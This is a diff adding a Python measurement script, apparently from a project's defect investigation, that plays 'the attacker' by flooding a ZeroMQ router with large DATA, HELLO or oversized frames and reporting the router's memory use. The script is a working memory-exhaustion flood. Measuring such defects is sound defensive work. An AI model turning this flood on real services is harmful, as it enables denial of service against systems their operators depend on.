@@ -1,0 +1,69 @@
+#!/usr/bin/python3
+"""The attacker's tool of issue 10 (defect 3), for measurements: floods a
+router's FRONT with large frames and reports the router's resident size.
+
+  flood_router.py ENDPOINT ROUTER_PID MODE [N] [MB]
+
+MODE data:  says HELLO as source 'flood', then sends N DATA frames of MB
+            megabytes each (no worker: nothing drains the queue).
+MODE hello: sends N HELLO frames of MB megabytes from peers that never
+            said HELLO before (each a new routing id).
+MODE big:   sends one frame of MB megabytes (above the frame limit, the
+            router's libzmq drops the connection).
+Prints the router's VmRSS (and VmHWM, its peak) every second for 5 s
+after the last frame, then the largest values seen."""
+import sys
+import time
+
+import zmq
+
+sys.path.insert(0, __file__.rsplit("/", 1)[0])
+import sstream_client as sc  # noqa: E402
+
+
+def rss(pid):
+    v = {}
+    with open("/proc/%d/status" % pid) as f:
+        for line in f:
+            k, _, rest = line.partition(":")
+            if k in ("VmRSS", "VmHWM"):
+                v[k] = int(rest.split()[0]) // 1024
+    return v
+
+
+def main():
+    ep, pid, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+    n = int(sys.argv[4]) if len(sys.argv) > 4 else 12
+    mb = int(sys.argv[5]) if len(sys.argv) > 5 else 50
+    ctx = zmq.Context()
+    blob = b"\xa1x" * (mb << 19)  # mb MiB of 1-byte-string events
+    socks = []
+    if mode == "data":
+        p = sc.Producer(ctx, ep, "flood", "src")
+        for seq in range(n):
+            p.send(sc.DATA, blob, flags=sc.LAST_PART,
+                   stream=sc.stream_of("flood"), seq=seq, count=len(blob) // 2)
+        socks.append(p.sock)
+    else:
+        for i in range(1 if mode == "big" else n):
+            s = ctx.socket(zmq.DEALER)
+            name = "stranger-%d" % i
+            s.setsockopt(zmq.ROUTING_ID, name.encode())
+            s.setsockopt(zmq.LINGER, 0)
+            s.connect(ep)
+            s.send(sc.message(sc.HELLO, blob, producer=sc.name_id(name)))
+            socks.append(s)
+    peak = {"VmRSS": 0, "VmHWM": 0}
+    for _ in range(5):
+        time.sleep(1)
+        v = rss(pid)
+        print("router rss %d MB (peak so far %d MB)" % (v["VmRSS"], v["VmHWM"]))
+        for k in peak:
+            peak[k] = max(peak[k], v[k])
+    print("largest: rss %d MB, peak %d MB" % (peak["VmRSS"], peak["VmHWM"]))
+    for s in socks:
+        s.close(0)
+    ctx.term()
+
+
+main()
